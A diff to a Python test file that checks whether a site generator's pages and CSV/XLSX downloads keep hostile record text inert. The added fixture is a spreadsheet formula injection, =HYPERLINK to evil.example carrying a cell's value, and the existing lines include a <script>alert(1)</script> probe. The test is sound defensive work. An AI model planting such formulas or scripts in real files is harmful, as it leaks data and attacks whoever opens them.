@@ -9,7 +9,9 @@ a shallow clone, hostile record text, English, and records with errors.
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import json
 import os
 import re
@@ -328,6 +330,12 @@ def test_record_text_stays_inert(tmp_path: Path) -> None:
     _replace(
         project / "records/org.yaml", "{id: admin, name: 行政科,", f"{{id: admin, name: {hostile},"
     )
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"保卫处")'
+    _replace(
+        project / "records/org.yaml",
+        "{id: security, name: 保卫处,",
+        f"{{id: security, name: '{formula}',",
+    )
     _replace(
         project / "records/2026-10/assessments/admin.yaml",
         "  R4: {score: 10}",
@@ -352,6 +360,15 @@ def test_record_text_stays_inert(tmp_path: Path) -> None:
     assert right_to_left in month.text and long_word in month.text and "{% raw %}" in month.text
     title = next(e for e in page(project, "departments/admin").elements if e.tag == "title")
     assert title.text.startswith("<script>alert(1)</script></title>")
+    # the downloads write a name that a spreadsheet would read as a formula as text
+    downloads = project / "public/downloads"
+    rows = csv.DictReader(io.StringIO((downloads / "results.csv").read_text(encoding="utf-8")))
+    names = {row["name"] for row in rows if row["department"] == "security"}
+    assert names == {"'" + formula}
+    book = openpyxl.load_workbook(downloads / "results.xlsx")
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert "'" + formula in {cell.value for cell in cells}
 
 
 def test_unsafe_repository_url_is_refused(tmp_path: Path) -> None:
